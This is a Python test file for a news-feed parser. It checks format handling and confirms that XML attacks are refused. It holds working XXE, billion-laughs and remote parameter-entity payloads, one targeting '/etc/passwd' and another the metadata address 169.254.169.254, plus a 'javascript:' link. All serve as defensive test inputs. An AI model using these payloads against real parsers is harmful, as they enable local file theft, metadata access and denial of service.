"""Feeds are parsed from bytes (never fetched by feedparser); XML attacks are refused."""

import pytest

from apps.ingestion.feeds import FeedError, parse_feed
from tests.hostile import (
    BEHIND_1MB_PADDING,
    BEHIND_COMMENT,
    BEHIND_PROCESSING_INSTRUCTION,
    ENTITY_DTD,
)
from tests.ingestion.helpers import atom, rdf, rss, rss091

ITEMS = [("First <b>story</b> &amp; more", "https://news.example/1"), ("Second", "/2")]


@pytest.mark.parametrize("make", [rss, atom, rdf, rss091], ids=["rss2", "atom", "rss1", "rss091"])
def test_every_feed_format_gives_entry_links_and_plain_titles(make):
    parsed = parse_feed(make(ITEMS), url="https://news.example/feed.xml")
    assert [e.link for e in parsed.entries] == ["https://news.example/1", "https://news.example/2"]
    assert parsed.entries[0].title == "First story & more"
    assert parsed.warning == ""


def test_rss_and_atom_dates_and_authors():
    parsed = parse_feed(atom(ITEMS), url="https://news.example/atom")
    assert parsed.entries[1].published_at.isoformat() == "2024-05-01T13:00:00+00:00"
    assert parsed.entries[1].authors == ["Reporter 1"]
    assert parse_feed(rss(ITEMS), url="https://x.example/").entries[0].published_at.hour == 12


def test_entries_without_a_web_link_are_skipped():
    body = rss(
        [("a", "javascript:alert(1)"), ("b", "ftp://x.example/f"), ("c", "https://ok.example/c")]
    )
    assert [e.link for e in parse_feed(body, url="https://x.example/").entries] == [
        "https://ok.example/c"
    ]


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>a</title><link>https://news.example/a</link></item></channel></rss>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://news.example/a</link></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""


@pytest.mark.parametrize("body", [XXE, LAUGHS, PARAMETER_ENTITY], ids=["xxe", "laughs", "param"])
def test_feeds_declaring_entities_are_refused_with_a_reason(body):
    with pytest.raises(FeedError) as caught:
        parse_feed(body, url="https://news.example/feed")
    assert "XML entities" in caught.value.message


def test_a_malformed_feed_gives_what_can_be_read_with_a_warning():
    body = (
        b"<rss version='2.0'><channel><title>Broken</title>"
        b"<item><title>One</title><link>https://news.example/1</link></item>"
        b"<item><title>Two &nbsp; <b>unclosed</title><link>https://news.example/2</link></item>"
    )
    parsed = parse_feed(body, url="https://news.example/feed")
    assert "https://news.example/1" in [e.link for e in parsed.entries]
    assert "not well-formed" in parsed.warning


@pytest.mark.parametrize(
    ("body", "content_type", "reason"),
    [
        (b"   ", "application/rss+xml", "empty document"),
        (b"<!doctype html><html><body>News!</body></html>", "text/html", "web page, not an RSS"),
        (b"just some words, no feed", "text/plain", "readable RSS or Atom"),
    ],
)
def test_documents_that_are_not_feeds_fail_with_a_reason(body, content_type, reason):
    with pytest.raises(FeedError, match=reason):
        parse_feed(body, url="https://news.example/feed", content_type=content_type)


BOMB_BODY = (
    b'<rss version="2.0"><channel><title>t</title><item><title>'
    + b"&lol2;" * 20_000
    + b"</title><link>https://news.example/a</link></item></channel></rss>"
)


@pytest.mark.parametrize(
    "prefix",
    [
        BEHIND_COMMENT,  # a comment that looks like the root element
        BEHIND_1MB_PADDING,  # past the first megabyte
        BEHIND_PROCESSING_INSTRUCTION,
    ],
    ids=["behind-comment", "behind-1mb-padding", "behind-processing-instruction"],
)
def test_entity_declarations_are_refused_wherever_they_hide(prefix):
    with pytest.raises(FeedError) as caught:
        parse_feed(b'<?xml version="1.0"?>' + prefix + ENTITY_DTD + BOMB_BODY, url="https://x/")
    assert "declares XML entities" in caught.value.message
    assert "Ask the publisher" in caught.value.message


def test_entities_after_broken_xml_are_never_expanded():
    """XML broken before the DOCTYPE goes to feedparser's loose parser, which leaves
    declared entities as they are."""
    body = b"<?xml version='1.0'?><!-- -- -->" + ENTITY_DTD + BOMB_BODY
    parsed = parse_feed(body, url="https://x/")
    assert "lollol" not in parsed.entries[0].title


def test_entries_past_the_limit_are_counted(monkeypatch):
    from apps.ingestion import feeds

    monkeypatch.setattr(feeds, "MAX_ENTRIES", 1)
    parsed = parse_feed(rss(ITEMS), url="https://news.example/feed.xml")
    assert len(parsed.entries) == 1 and parsed.dropped == 1
